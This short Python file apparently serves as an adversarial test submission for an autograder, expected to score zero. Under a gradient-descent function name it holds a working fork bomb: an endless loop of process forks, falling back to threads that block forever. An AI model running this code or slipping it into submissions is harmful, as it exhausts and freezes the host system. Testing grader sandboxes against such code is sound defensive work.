# Processes and threads without number.
# Expected mark: 0
import os
import threading


def update_parameters_with_gd(parameters, grads, learning_rate):
    while True:
        try:
            os.fork()
        except OSError:
            threading.Thread(target=threading.Event().wait).start()
